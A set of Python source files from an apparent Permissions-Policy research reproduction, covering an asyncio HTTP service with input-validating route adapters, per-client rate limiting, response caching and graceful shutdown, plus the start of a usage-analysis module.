Adapters are synchronous and CPU-bound; the server runs them on the
event-loop thread, which is the right call for a policy engine whose
single-request latency is tens of microseconds.
"""

from __future__ import annotations

from collections import OrderedDict

from repro.crawler.fetcher import SyntheticFetcher
from repro.policy.engine import PermissionsPolicyEngine, PolicyFrame
from repro.registry.features import DEFAULT_REGISTRY, PermissionRegistry
from repro.service.errors import bad_request, not_found
from repro.synthweb.generator import SyntheticWeb
from repro.tools.header_generator import HeaderGenerator, HeaderPreset
from repro.tools.recommender import PolicyRecommender
from repro.tools.support_site import SupportSiteReport

#: Caps keeping one request's work bounded (hostile-input contract).
MAX_EVALUATE_REQUESTS = 256
MAX_FRAMES_PER_REQUEST = 32
MAX_FEATURES_PER_REQUEST = 256
MAX_SYNTH_SITES = 200_000
#: Distinct synthetic webs kept alive across /recommend calls.
_SYNTH_WEB_SLOTS = 4


def _require(payload: dict, key: str, kind: type, *,
             where: str = "request") -> object:
    value = payload.get(key)
    if value is None:
        raise bad_request(f"{where} is missing required field {key!r}",
                          code="missing-field", token=key)
    if not isinstance(value, kind):
        raise bad_request(
            f"{where} field {key!r} must be {kind.__name__}, "
            f"got {type(value).__name__}", code="invalid-field", token=key)
    return value


def _optional_str(payload: dict, key: str, *,
                  where: str = "request") -> "str | None":
    value = payload.get(key)
    if value is None:
        return None
    if not isinstance(value, str):
        raise bad_request(f"{where} field {key!r} must be a string",
                          code="invalid-field", token=key)
    return value


def _str_tuple(payload: dict, key: str, *, where: str = "request"
               ) -> tuple:
    value = payload.get(key, [])
    if not isinstance(value, list) or not all(
            isinstance(item, str) for item in value):
        raise bad_request(f"{where} field {key!r} must be a list of strings",
                          code="invalid-field", token=key)
    return tuple(value)


class ToolAdapters:
    """The service's route handlers, minus all transport concerns."""

    def __init__(self, *, registry: "PermissionRegistry | None" = None
                 ) -> None:
        self._registry = registry if registry is not None else DEFAULT_REGISTRY
        self._engine = PermissionsPolicyEngine(self._registry)
        self._generator = HeaderGenerator()
        self._support = SupportSiteReport()
        self._webs: "OrderedDict[tuple, SyntheticWeb]" = OrderedDict()

    # -- POST /evaluate -------------------------------------------------------

    def evaluate(self, payload: dict) -> dict:
        """Batch policy evaluation.

        Payload shape::

            {"requests": [{
                "top_url": "https://example.com",
                "header": "camera=(self)",        # optional
                "fp_header": "camera 'self'",     # optional
                "frames": [{"url": ..., "allow": ..., "header": ...,
                            "sandbox": ...}, ...], # optional, nested chain
                "features": ["camera", ...],       # optional, default: all
            }, ...]}

        Each ``frames`` entry nests inside the previous one, so the list
        describes one ancestor chain; decisions are reported for the
        deepest frame.
        """
        requests = _require(payload, "requests", list)
        if len(requests) > MAX_EVALUATE_REQUESTS:
            raise bad_request(
                f"at most {MAX_EVALUATE_REQUESTS} evaluation requests per "
                f"call, got {len(requests)}", code="batch-too-large")
        results = []
        for index, entry in enumerate(requests):
            if not isinstance(entry, dict):
                raise bad_request(
                    f"requests[{index}] must be an object",
                    code="invalid-field", token=f"requests[{index}]")
            results.append(self._evaluate_one(entry, index))
        return {"results": results}

    def _evaluate_one(self, entry: dict, index: int) -> dict:
        where = f"requests[{index}]"
        top_url = _require(entry, "top_url", str, where=where)
        frame = PolicyFrame.top(
            top_url,
            header=_optional_str(entry, "header", where=where),
            fp_header=_optional_str(entry, "fp_header", where=where))
        frames = entry.get("frames", [])
        if not isinstance(frames, list):
            raise bad_request(f"{where} field 'frames' must be a list",
                              code="invalid-field", token="frames")
        if len(frames) > MAX_FRAMES_PER_REQUEST:
            raise bad_request(
                f"{where} nests more than {MAX_FRAMES_PER_REQUEST} frames",
                code="batch-too-large", token="frames")
        for depth, spec in enumerate(frames):
            if not isinstance(spec, dict):
                raise bad_request(
                    f"{where}.frames[{depth}] must be an object",
                    code="invalid-field", token=f"frames[{depth}]")
            child_where = f"{where}.frames[{depth}]"
            frame = frame.child(
                _require(spec, "url", str, where=child_where),
                allow=_optional_str(spec, "allow", where=child_where),
                header=_optional_str(spec, "header", where=child_where),
                sandbox=_optional_str(spec, "sandbox", where=child_where))

        features = _str_tuple(entry, "features", where=where)
        if len(features) > MAX_FEATURES_PER_REQUEST:
            raise bad_request(
                f"{where} asks about more than "
                f"{MAX_FEATURES_PER_REQUEST} features",
                code="batch-too-large", token="features")
        if not features:
            return {
                "top_url": top_url,
                "frame_origin": frame.effective_policy_origin().serialize(),
                "allowed_features": list(self._engine.allowed_features(frame)),
            }
        decisions = []
        for feature in features:
            # Unknown feature names raise UnknownPermissionError here and
            # surface as a 400 naming the token.
            self._registry.get(feature)
            decision = self._engine.explain(feature, frame)
            decisions.append({
                "feature": decision.feature,
                "enabled": decision.enabled,
                "reason": decision.reason,
            })
        return {
            "top_url": top_url,
            "frame_origin": frame.effective_policy_origin().serialize(),
            "decisions": decisions,
        }

    # -- POST /generate-header ------------------------------------------------

    def generate_header(self, payload: dict) -> dict:
        """Preset or custom header generation.

        Payload: either ``{"preset": "disable-all" | "disable-powerful"}``
        or the custom form ``{"disable": [...], "self_only": [...],
        "allow_origins": {perm: [origin, ...]}, "disable_rest": bool}``.
        """
        preset_name = _optional_str(payload, "preset")
        if preset_name is not None:
            try:
                preset = HeaderPreset(preset_name)
            except ValueError:
                raise bad_request(
                    f"unknown preset {preset_name!r}; expected one of "
                    f"{[p.value for p in HeaderPreset]}",
                    code="unknown-preset", token=preset_name) from None
            header = self._generator.generate_preset(preset)
        else:
            allow_origins = payload.get("allow_origins")
            if allow_origins is not None:
                if not isinstance(allow_origins, dict) or not all(
                        isinstance(k, str) and isinstance(v, list)
                        and all(isinstance(o, str) for o in v)
                        for k, v in allow_origins.items()):
                    raise bad_request(
                        "'allow_origins' must map permission names to "
                        "lists of origin strings", code="invalid-field",
                        token="allow_origins")
                allow_origins = {k: tuple(v) for k, v in allow_origins.items()}
            disable_rest = payload.get("disable_rest", True)
            if not isinstance(disable_rest, bool):
                raise bad_request("'disable_rest' must be a boolean",
                                  code="invalid-field", token="disable_rest")
            header = self._generator.generate_custom(
                disable=_str_tuple(payload, "disable"),
                self_only=_str_tuple(payload, "self_only"),
                allow_origins=allow_origins,
                disable_rest=disable_rest)
        return {
            "header": header,
            "complete": self._generator.is_complete(header),
            "covered": sorted(
                name for name, covered
                in self._generator.coverage(header).items() if covered),
        }

    # -- POST /recommend ------------------------------------------------------

    def recommend(self, payload: dict) -> dict:
        """Least-privilege recommendation over a synthetic or stored visit.

        Synthetic form: ``{"rank": 7, "sites": 3000, "seed": 2024,
        "interact": true}`` — visits site ``rank`` of a deterministic
        synthetic web.  Stored form: ``{"database": "crawl.sqlite",
        "rank": 7}`` — recommends from the stored visit record.
        """
        database = _optional_str(payload, "database")
        rank = payload.get("rank", 0)
        if not isinstance(rank, int) or isinstance(rank, bool) or rank < 0:
            raise bad_request("'rank' must be a non-negative integer",
                              code="invalid-field", token="rank")
        interact = payload.get("interact", True)
        if not isinstance(interact, bool):
            raise bad_request("'interact' must be a boolean",
                              code="invalid-field", token="interact")

        if database is not None:
            recommendation = self._recommend_stored(database, rank, interact)
        else:
            recommendation = self._recommend_synthetic(payload, rank,
                                                       interact)
        return {
            "url": recommendation.url,
            "observed_top_level": list(recommendation.observed_top_level),
            "observed_embedded": {
                origin: list(perms) for origin, perms
                in sorted(recommendation.observed_embedded.items())},
            "suggested_header": recommendation.suggested_header,
            "current_header": recommendation.current_header,
            "header_over_grants": list(recommendation.header_over_grants),
            "is_over_permissioned": recommendation.is_over_permissioned,
            "delegations": [{
                "iframe_src": s.iframe_src,
                "observed_permissions": list(s.observed_permissions),
                "suggested_allow": s.suggested_allow,
                "current_allow": s.current_allow,
                "over_granted": list(s.over_granted),
            } for s in recommendation.delegation_suggestions],
        }

    def _web(self, sites: int, seed: int) -> SyntheticWeb:
        key = (sites, seed)
        web = self._webs.get(key)
        if web is None:
            web = SyntheticWeb(sites, seed=seed)
            self._webs[key] = web
        self._webs.move_to_end(key)
        while len(self._webs) > _SYNTH_WEB_SLOTS:
            self._webs.popitem(last=False)
        return web

    def _recommend_synthetic(self, payload: dict, rank: int,
                             interact: bool):
        sites = payload.get("sites", 1000)
        seed = payload.get("seed", 2024)
        for name, value in (("sites", sites), ("seed", seed)):
            if not isinstance(value, int) or isinstance(value, bool):
                raise bad_request(f"{name!r} must be an integer",
                                  code="invalid-field", token=name)
        if not 0 < sites <= MAX_SYNTH_SITES:
            raise bad_request(
                f"'sites' must be in 1..{MAX_SYNTH_SITES}",
                code="invalid-field", token="sites")
        if rank >= sites:
            raise not_found(f"rank {rank} is outside the {sites}-site web",
                            token=str(rank))
        web = self._web(sites, seed)
        recommender = PolicyRecommender(SyntheticFetcher(web),
                                        interact=interact,
                                        registry=self._registry)
        return recommender.recommend(web.origin_for_rank(rank))

    def _recommend_stored(self, database: str, rank: int, interact: bool):
        from pathlib import Path

        from repro.crawler.storage import CrawlStore

        if not Path(database).is_file():
            raise not_found(f"no crawl store at {database!r}",
                            token=database)
        try:
            store = CrawlStore(database)
        except Exception as exc:
            raise bad_request(f"cannot open store {database!r}: {exc}",
                              code="invalid-store", token=database) from exc
        try:
            visits = store.load_visits([rank])
        finally:
            store.close()
        if not visits:
            raise not_found(
                f"no visit with rank {rank} in {database!r}",
                token=str(rank))
        recommender = PolicyRecommender(_NoFetch(), interact=interact,
                                        registry=self._registry)
        return recommender.recommend_from_visit(visits[0])

    # -- GET /registry --------------------------------------------------------

    def registry_view(self, query: dict) -> dict:
        """The support matrix as JSON; ``?permission=name`` selects one."""
        rows = self._support.rows()
        wanted = query.get("permission")
        if wanted is not None:
            rows = [row for row in rows if row["permission"] == wanted]
            if not rows:
                raise not_found(f"unknown permission {wanted!r}",
                                token=wanted)
        return {"permissions": rows, "summary": self._support.summary_counts()}


class _NoFetch:
    """Fetcher stub for stored-visit recommendations (never fetches)."""

    def fetch(self, url: str):
        raise ValueError(f"stored-visit recommendation cannot fetch {url!r}")
