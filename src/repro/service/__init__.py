"""Policy-as-a-service: the async HTTP layer over the developer tools.

The paper ships its developer artifacts — registry site (Fig. 3), header
generator (Fig. 4), least-privilege recommender (Section 6.3) — as web
services; this package is our production-shaped equivalent (ROADMAP item
1): a zero-dependency asyncio HTTP service exposing the existing library
tools, with the core engine untouched.

Routes: ``POST /evaluate``, ``POST /generate-header``,
``POST /recommend``, ``GET /registry`` (plus ``GET /healthz`` and
``GET /stats``).  See DESIGN.md §4j for the request path and docs/API.md
for payload shapes.
"""

from repro.service.adapters import ToolAdapters
from repro.service.cache import (
    ResponseCache,
    canonical_request_text,
    request_key,
)
from repro.service.errors import ServiceError, error_from_exception
from repro.service.ratelimit import ClientRateLimiter, RateLimitConfig
from repro.service.server import PolicyService, ServiceThread

__all__ = [
    "ClientRateLimiter",
    "PolicyService",
    "RateLimitConfig",
    "ResponseCache",
    "ServiceError",
    "ServiceThread",
    "ToolAdapters",
    "canonical_request_text",
    "error_from_exception",
    "request_key",
]
