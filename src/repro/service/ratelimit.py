"""Per-client rate limiting built on the crawler's ``CircuitBreaker``.

Two layers compose (DESIGN.md §4j):

1. a **token bucket** per client decides whether this request is within
   budget (``requests_per_second`` refill, ``burst`` capacity, injectable
   clock — ``requests_per_second=0`` never refills, which makes limiter
   behaviour a pure function of the call sequence for tests);
2. the crawler's per-origin :class:`~repro.crawler.guards.CircuitBreaker`
   — reused verbatim, with client keys in place of origins — turns
   *sustained* over-budget behaviour into an OPEN circuit that
   short-circuits requests without even consulting the bucket, and
   deterministically lets every ``cooldown_attempts``-th rejected request
   through as a half-open probe.  A within-budget probe closes the
   circuit; an over-budget probe re-opens it.

The breaker gives the service the same deterministic open/half-open
schedule the crawler already trusts (no clocks, replayable), so the
rate-limit tests assert exact state sequences rather than sleeping.

Per-client state is bounded: past ``max_clients`` tracked clients, the
least-recently-refilled one is evicted (bucket, timestamp and breaker
circuit), so an open client population cannot grow the limiter's memory
without bound.
"""

from __future__ import annotations

import time
from dataclasses import dataclass

from repro.crawler.guards import CircuitBreaker
from repro.obs import metrics as _metrics


@dataclass(frozen=True)
class RateLimitConfig:
    """Rate-limiter knobs; defaults sized for a single service process."""

    #: Bucket refill rate; ``0`` disables refill (deterministic mode).
    requests_per_second: float = 50.0
    #: Bucket capacity — requests a client may burst before throttling.
    burst: int = 100
    #: Consecutive over-budget requests before the circuit opens.
    failure_threshold: int = 3
    #: Every Nth request to an open circuit becomes a half-open probe.
    cooldown_attempts: int = 2
    #: Clients tracked at once; the least-recently-seen client's bucket
    #: and circuit are evicted past this, so an open client population
    #: (one key per caller) cannot grow the limiter without bound.
    max_clients: int = 4096

    def __post_init__(self) -> None:
        if self.requests_per_second < 0:
            raise ValueError("requests_per_second must be >= 0")
        if self.burst < 1:
            raise ValueError("burst must be >= 1")
        if self.max_clients < 1:
            raise ValueError("max_clients must be >= 1")


class ClientRateLimiter:
    """Admission control: one token bucket + breaker circuit per client."""

    def __init__(self, config: "RateLimitConfig | None" = None, *,
                 clock=time.monotonic) -> None:
        self.config = config if config is not None else RateLimitConfig()
        self._clock = clock
        self._breaker = CircuitBreaker(
            failure_threshold=self.config.failure_threshold,
            cooldown_attempts=self.config.cooldown_attempts)
        self._tokens: dict[str, float] = {}
        self._refilled_at: dict[str, float] = {}
        #: Requests refused (over budget or short-circuited).
        self.rejected = 0
        #: Requests admitted.
        self.admitted = 0
        #: Idle clients evicted to stay under ``max_clients``.
        self.evicted = 0

    def _evict_stale(self) -> None:
        """Drop least-recently-refilled clients past ``max_clients``.

        Bounds the per-client dicts (and the breaker's circuits) against
        an open client population.  An evicted client restarts with a
        full bucket and a closed circuit on its next request — the cap
        should be sized well above the concurrent client count, where
        only clients idle long enough to have refilled to a full bucket
        anyway are evicted.
        """
        while len(self._refilled_at) > self.config.max_clients:
            victim = min(self._refilled_at,
                         key=self._refilled_at.__getitem__)
            del self._refilled_at[victim]
            self._tokens.pop(victim, None)
            self._breaker.forget(victim)
            self.evicted += 1
            if _metrics.COUNTING:
                _metrics.REGISTRY.counter("service.clients_evicted").inc()

    def _take_token(self, client: str) -> bool:
        now = self._clock()
        tokens = self._tokens.get(client)
        if tokens is None:
            tokens = float(self.config.burst)
        else:
            elapsed = max(0.0, now - self._refilled_at[client])
            tokens = min(float(self.config.burst),
                         tokens + elapsed * self.config.requests_per_second)
        self._refilled_at[client] = now
        self._evict_stale()
        if tokens >= 1.0:
            self._tokens[client] = tokens - 1.0
            return True
        self._tokens[client] = tokens
        return False

    def admit(self, client: str) -> bool:
        """Whether this client's request may proceed.

        The breaker is consulted first: an OPEN circuit rejects without
        spending a token, except for its scheduled half-open probes, whose
        bucket outcome closes or re-opens the circuit.
        """
        if not self._breaker.allow(client):
            self.rejected += 1
            if _metrics.COUNTING:
                _metrics.REGISTRY.counter("service.rate_limited").inc()
            return False
        if self._take_token(client):
            self._breaker.record_success(client)
            self.admitted += 1
            return True
        self._breaker.record_failure(client, transient=False)
        self.rejected += 1
        if _metrics.COUNTING:
            _metrics.REGISTRY.counter("service.rate_limited").inc()
        return False

    def state(self, client: str) -> str:
        """The breaker state for a client (``closed``/``open``/``half-open``)."""
        return self._breaker.state(client)

    def stats(self) -> dict:
        return {
            "admitted": self.admitted,
            "rejected": self.rejected,
            "open_clients": self._breaker.open_origins(),
            "circuits_opened": self._breaker.opened_count,
            "tracked_clients": len(self._refilled_at),
            "evicted_clients": self.evicted,
        }
