"""The asyncio policy service: routing, caching, limiting, drain.

One :class:`PolicyService` owns the whole request path (DESIGN.md §4j)::

    accept → rate limit → parse → cache lookup → adapter → cache fill → write

Per request: a ``service.request`` tracing span and counters from
:mod:`repro.obs` (off by default, like everywhere else), the LRU
:class:`~repro.service.cache.ResponseCache` consulted only for *cacheable*
routes and filled only with status-200 bodies, and
:func:`~repro.service.errors.error_from_exception` wrapped around the
adapter call so any library exception becomes structured 4xx/5xx JSON.

Shutdown mirrors the crawler pool's protocol
(``crawler/pool.py::_stop_on_signals``): SIGINT/SIGTERM set a drain
event; the listener stops accepting, in-flight requests finish, idle
keep-alive connections are closed, and the previous signal handlers are
restored.  :class:`ServiceThread` hosts the same loop in a background
thread for tests, the bench harness and the CLI's in-process mode.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import logging
import signal
import threading

from repro.obs import metrics as _metrics
from repro.obs import span
from repro.service.adapters import ToolAdapters
from repro.service.cache import ResponseCache, request_key
from repro.service.errors import (
    ServiceError,
    error_from_exception,
    not_found,
)
from repro.service.http import (
    HttpRequest,
    encode_json,
    read_request,
    render_response,
)
from repro.service.ratelimit import ClientRateLimiter, RateLimitConfig

logger = logging.getLogger(__name__)

#: Default cap on request bodies (bytes).
DEFAULT_MAX_BODY_BYTES = 1 << 20


class _Connection:
    """Book-keeping for one client connection during drain."""

    __slots__ = ("writer", "busy")

    def __init__(self, writer: asyncio.StreamWriter) -> None:
        self.writer = writer
        self.busy = False


class PolicyService:
    """The HTTP service over the developer tools."""

    def __init__(self, *, host: str = "127.0.0.1", port: int = 0,
                 adapters: "ToolAdapters | None" = None,
                 cache: "ResponseCache | None" = None,
                 limiter: "ClientRateLimiter | None" = None,
                 rate_limit: "RateLimitConfig | None" = None,
                 max_body_bytes: int = DEFAULT_MAX_BODY_BYTES) -> None:
        self.host = host
        self.port = port
        self.adapters = adapters if adapters is not None else ToolAdapters()
        self.cache = cache if cache is not None else ResponseCache()
        self.limiter = (limiter if limiter is not None
                        else ClientRateLimiter(rate_limit))
        self.max_body_bytes = max_body_bytes
        self._server: "asyncio.AbstractServer | None" = None
        self._connections: set[_Connection] = set()
        self._draining = asyncio.Event()
        self._drain_task: "asyncio.Task | None" = None
        self._loop: "asyncio.AbstractEventLoop | None" = None
        #: Requests answered (any status), 429 short-circuits included.
        self.request_count = 0
        #: Requests rejected by the rate limiter.
        self.rate_limited_count = 0
        #: Responses with a 4xx/5xx status.
        self.error_count = 0
        # method → path → (handler, cacheable).  Handlers take the parsed
        # HttpRequest and return the response document.
        self._routes: dict = {"GET": {}, "POST": {}}
        self.add_route("POST", "/evaluate",
                       lambda req: self.adapters.evaluate(req.json()))
        self.add_route("POST", "/generate-header",
                       lambda req: self.adapters.generate_header(req.json()))
        self.add_route("POST", "/recommend",
                       lambda req: self.adapters.recommend(req.json()))
        self.add_route("GET", "/registry",
                       lambda req: self.adapters.registry_view(req.query))
        # Operational endpoints: never cached, never rate limited.
        self.add_route("GET", "/healthz", lambda req: {"status": "ok"},
                       cacheable=False, limited=False)
        self.add_route("GET", "/stats", lambda req: self.stats(),
                       cacheable=False, limited=False)

    # -- routing --------------------------------------------------------------

    def add_route(self, method: str, path: str, handler, *,
                  cacheable: bool = True, limited: bool = True) -> None:
        """Register/replace a route (tests add slow routes for drain)."""
        self._routes.setdefault(method.upper(), {})[path] = (
            handler, cacheable, limited)

    def stats(self) -> dict:
        return {
            "requests": self.request_count,
            "errors": self.error_count,
            "rate_limited": self.rate_limited_count,
            "cache": self.cache.stats(),
            "limiter": self.limiter.stats(),
            "draining": self._draining.is_set(),
        }

    # -- lifecycle ------------------------------------------------------------

    async def start(self) -> None:
        """Bind and start accepting; resolves the ephemeral port."""
        self._loop = asyncio.get_running_loop()
        self._server = await asyncio.start_server(
            self._connection, self.host, self.port)
        self.port = self._server.sockets[0].getsockname()[1]
        logger.info("policy service listening on %s:%d", self.host, self.port)

    async def drain(self) -> None:
        """Stop accepting, finish in-flight requests, close idle peers.

        Idempotent: concurrent callers all await the same drain task.
        """
        await self._ensure_drain_task(asyncio.get_running_loop())

    def _ensure_drain_task(self, loop: asyncio.AbstractEventLoop
                           ) -> "asyncio.Task":
        if self._drain_task is None:
            self._drain_task = loop.create_task(self._drain_impl())
        return self._drain_task

    async def _drain_impl(self) -> None:
        self._draining.set()
        if self._server is not None:
            self._server.close()
        # Idle keep-alive connections are parked in read_request(); nudge
        # them closed so their handler tasks unwind.  Busy connections
        # finish their in-flight response first (the per-connection loop
        # re-checks the drain flag before the next read).
        for connection in list(self._connections):
            if not connection.busy:
                connection.writer.close()
        if self._server is not None:
            await self._server.wait_closed()
        while any(c.busy for c in self._connections):
            await asyncio.sleep(0.005)
        for connection in list(self._connections):
            connection.writer.close()
        logger.info("policy service drained (%d requests served)",
                    self.request_count)

    def request_drain(self) -> None:
        """Thread-safe drain trigger (signal handlers, ServiceThread)."""
        loop = self._loop
        if loop is None or loop.is_closed():
            return
        loop.call_soon_threadsafe(self._ensure_drain_task, loop)

    async def run_forever(self, *, handle_signals: bool = True) -> None:
        """Serve until drained; optionally wire SIGINT/SIGTERM to drain.

        Mirrors the crawler pool's shutdown protocol: handlers only set
        the drain in motion, in-flight work completes, and the previous
        handlers are restored on the way out.
        """
        if self._server is None:
            await self.start()
        loop = asyncio.get_running_loop()
        installed: list = []
        if handle_signals and threading.current_thread() \
                is threading.main_thread():
            for signum in (signal.SIGINT, signal.SIGTERM):
                try:
                    loop.add_signal_handler(
                        signum, self._on_signal, signum)
                except (ValueError, OSError, NotImplementedError):
                    continue
                installed.append(signum)
        try:
            await self._draining.wait()
            await self.drain()
        finally:
            for signum in installed:
                with contextlib.suppress(ValueError, OSError):
                    loop.remove_signal_handler(signum)

    def _on_signal(self, signum: int) -> None:
        logger.warning("received signal %d — draining in-flight requests",
                       signum)
        self.request_drain()

    # -- connection handling --------------------------------------------------

    async def _connection(self, reader: asyncio.StreamReader,
                          writer: asyncio.StreamWriter) -> None:
        connection = _Connection(writer)
        self._connections.add(connection)
        peer = writer.get_extra_info("peername")
        peer_host = peer[0] if isinstance(peer, tuple) else "local"
        try:
            while not self._draining.is_set():
                try:
                    request = await read_request(
                        reader, max_body_bytes=self.max_body_bytes)
                except ServiceError as exc:
                    connection.busy = True
                    await self._write(writer, exc.status,
                                      encode_json(exc.to_json()), close=True)
                    self.request_count += 1
                    self.error_count += 1
                    return
                except (ConnectionError, asyncio.CancelledError):
                    return
                if request is None:
                    return
                connection.busy = True
                close = await self._respond(writer, request, peer_host)
                connection.busy = False
                if close:
                    return
        finally:
            self._connections.discard(connection)
            writer.close()
            with contextlib.suppress(Exception):
                await writer.wait_closed()

    async def _respond(self, writer: asyncio.StreamWriter,
                       request: HttpRequest, peer_host: str) -> bool:
        """Handle one parsed request; returns whether to close after."""
        close = request.wants_close or self._draining.is_set()
        self.request_count += 1
        if _metrics.COUNTING:
            _metrics.REGISTRY.counter("service.requests").inc()

        handlers = self._routes.get(request.method, {})
        entry = handlers.get(request.path)
        if entry is None:
            known_elsewhere = any(
                request.path in paths for paths in self._routes.values())
            error = (ServiceError(405, "method-not-allowed",
                                  f"{request.method} is not supported on "
                                  f"{request.path}")
                     if known_elsewhere else
                     not_found(f"no route {request.path!r}",
                               token=request.path))
            self.error_count += 1
            await self._write(writer, error.status,
                              encode_json(error.to_json()), close=close)
            return close
        handler, cacheable, limited = entry

        client = request.headers.get("x-client-id", peer_host)
        if limited and not self.limiter.admit(client):
            self.rate_limited_count += 1
            self.error_count += 1
            error = ServiceError(
                429, "rate-limited",
                f"client {client!r} is over budget; retry later",
                token=client)
            await self._write(writer, error.status,
                              encode_json(error.to_json()), close=close)
            return close

        with span("service.request", method=request.method,
                  path=request.path):
            status, body = self._execute(request, handler, cacheable)
        if request.headers.get("expect", "").lower() == "100-continue":
            # The body was already consumed by read_request; acknowledging
            # after the fact keeps plain curl clients happy.
            pass
        if status >= 400:
            self.error_count += 1
            if _metrics.COUNTING:
                _metrics.REGISTRY.counter("service.errors").inc()
        await self._write(writer, status, body, close=close)
        return close

    def _execute(self, request: HttpRequest, handler,
                 cacheable: bool) -> tuple:
        """Run the adapter under the cache; only 200 bodies are stored."""
        key = None
        if cacheable:
            try:
                payload = request.json() if request.body else {}
            except ServiceError as exc:
                return exc.status, encode_json(exc.to_json())
            key = request_key(request.method, request.path,
                              {"payload": payload, "query": request.query})
            cached = self.cache.get(key)
            if cached is not None:
                if _metrics.COUNTING:
                    _metrics.REGISTRY.counter("service.cache_hits").inc()
                return 200, cached
        try:
            document = handler(request)
        except Exception as exc:
            error = error_from_exception(exc)
            if error.status >= 500:
                logger.exception("service handler failed on %s %s",
                                 request.method, request.path)
            return error.status, encode_json(error.to_json())
        body = encode_json(document)
        if key is not None:
            self.cache.put(key, body)
        return 200, body

    @staticmethod
    async def _write(writer: asyncio.StreamWriter, status: int,
                     body: bytes, *, close: bool) -> None:
        with contextlib.suppress(ConnectionError):
            writer.write(render_response(status, body, close=close))
            await writer.drain()


class ServiceThread:
    """Hosts a :class:`PolicyService` event loop in a background thread.

    The harness for everything that wants a live server without owning
    the main thread: tests, the load bench, and ``serve`` smoke checks.
    Use as a context manager; exiting drains the service and joins the
    thread.
    """

    def __init__(self, service: "PolicyService | None" = None, **kwargs
                 ) -> None:
        self.service = service if service is not None \
            else PolicyService(**kwargs)
        self._thread: "threading.Thread | None" = None
        self._started = threading.Event()
        self._startup_error: "BaseException | None" = None

    @property
    def address(self) -> tuple:
        return (self.service.host, self.service.port)

    def __enter__(self) -> "ServiceThread":
        self.start()
        return self

    def __exit__(self, *exc_info) -> None:
        self.stop()

    def start(self) -> "ServiceThread":
        self._thread = threading.Thread(
            target=self._run, name="policy-service", daemon=True)
        self._thread.start()
        self._started.wait(timeout=10.0)
        if self._startup_error is not None:
            raise RuntimeError("service failed to start") \
                from self._startup_error
        if not self._started.is_set():
            raise RuntimeError("service did not start within 10s")
        return self

    def stop(self) -> None:
        self.service.request_drain()
        if self._thread is not None:
            self._thread.join(timeout=10.0)
            self._thread = None

    def _run(self) -> None:
        async def serve() -> None:
            try:
                await self.service.start()
            except BaseException as exc:
                self._startup_error = exc
                raise
            finally:
                self._started.set()
            await self.service.run_forever(handle_signals=False)

        try:
            asyncio.run(serve())
        except BaseException:
            if not self._started.is_set():
                self._started.set()
            else:
                raise
