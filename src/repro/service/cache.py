"""LRU response cache keyed on *canonical* request text.

Two requests that mean the same thing should hit the same cache slot even
when their policy text differs cosmetically (``camera=()`` vs
``camera=()  ``, attribute whitespace, directive order produced by a
different serializer).  So before hashing, every policy-bearing field in
the request payload is round-tripped through the strict parser and the
canonical serializer:

* ``header`` / ``fp_header`` / ``current_header`` values go through
  :func:`parse_permissions_policy_header` →
  :func:`serialize_permissions_policy`;
* ``allow`` values go through :func:`parse_allow_attribute` →
  :func:`serialize_allow_attribute`.

Text the strict parser rejects is kept verbatim — those requests produce
4xx responses, and error responses are never cached (the server only
stores status-200 bodies), so a hostile header cannot poison a slot.

The cache stores the response *body bytes*, which together with the
deterministic renderer in :mod:`repro.service.http` gives byte-identical
responses for identical canonical requests — the gate in
``BENCH_service.json``.
"""

from __future__ import annotations

import hashlib
import json
from collections import OrderedDict

from repro.policy.allow_attr import (
    parse_allow_attribute,
    serialize_allow_attribute,
)
from repro.policy.header import (
    parse_permissions_policy_header,
    serialize_permissions_policy,
)

#: Payload keys holding ``Permissions-Policy`` header text.
_HEADER_KEYS = frozenset({"header", "fp_header", "current_header"})
#: Payload keys holding iframe ``allow`` attribute text.
_ALLOW_KEYS = frozenset({"allow"})


def _canonical_header(raw: str) -> str:
    try:
        parsed = parse_permissions_policy_header(raw)
    except Exception:
        return raw
    return serialize_permissions_policy(parsed.directives)


def _canonical_allow(raw: str) -> str:
    try:
        parsed = parse_allow_attribute(raw)
        return serialize_allow_attribute({
            name: entry.allowlist
            for name, entry in parsed.entries.items()})
    except Exception:
        return raw


def _canonicalize(node: object, key: "str | None" = None) -> object:
    if isinstance(node, dict):
        return {k: _canonicalize(v, k) for k, v in node.items()}
    if isinstance(node, list):
        return [_canonicalize(item, key) for item in node]
    if isinstance(node, str) and key in _HEADER_KEYS:
        return _canonical_header(node)
    if isinstance(node, str) and key in _ALLOW_KEYS:
        return _canonical_allow(node)
    return node


def canonical_request_text(method: str, path: str, payload: dict) -> str:
    """The normal form a request is cached under."""
    document = {
        "method": method.upper(),
        "path": path,
        "payload": _canonicalize(payload),
    }
    return json.dumps(document, sort_keys=True, separators=(",", ":"))


def request_key(method: str, path: str, payload: dict) -> str:
    """Stable digest of the canonical request text."""
    text = canonical_request_text(method, path, payload)
    return hashlib.sha256(text.encode("utf-8")).hexdigest()


class ResponseCache:
    """Bounded LRU of ``key → response body bytes`` with hit accounting."""

    def __init__(self, max_entries: int = 1024) -> None:
        if max_entries < 1:
            raise ValueError("max_entries must be >= 1")
        self.max_entries = max_entries
        self._entries: "OrderedDict[str, bytes]" = OrderedDict()
        self.hits = 0
        self.misses = 0

    def __len__(self) -> int:
        return len(self._entries)

    def get(self, key: str) -> "bytes | None":
        body = self._entries.get(key)
        if body is None:
            self.misses += 1
            return None
        self._entries.move_to_end(key)
        self.hits += 1
        return body

    def put(self, key: str, body: bytes) -> None:
        self._entries[key] = body
        self._entries.move_to_end(key)
        while len(self._entries) > self.max_entries:
            self._entries.popitem(last=False)

    def clear(self) -> None:
        self._entries.clear()

    @property
    def hit_rate(self) -> float:
        total = self.hits + self.misses
        return self.hits / total if total else 0.0

    def stats(self) -> dict:
        return {
            "entries": len(self._entries),
            "max_entries": self.max_entries,
            "hits": self.hits,
            "misses": self.misses,
            "hit_rate": round(self.hit_rate, 6),
        }
