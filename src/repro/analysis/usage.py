"""Permission usage analysis (paper Section 4.1, Tables 4–6).

Three views over the crawl records:

* **Invocations (dynamic)** — which permissions were invoked per execution
  context, split by first/third party (Table 4).  The "General Permission
  APIs" pseudo-row aggregates calls to the Permissions / Permissions
  Policy / Feature Policy specification APIs.
* **Status checks (dynamic)** — which permissions had their state checked,
  and the "All Permissions" row for wholesale allowed-feature retrievals
  (Table 5).
* **Static detections** — string matching of permission API patterns in
  collected script sources (Table 6).

Counting follows the paper exactly: only the first occurrence of each
permission per frame counts ("this ensures that outliers … do not
artificially inflate the results"), context counts are frames, website
counts are site visits, and percentages are relative to top-level
documents.
"""

from __future__ import annotations

from collections import defaultdict
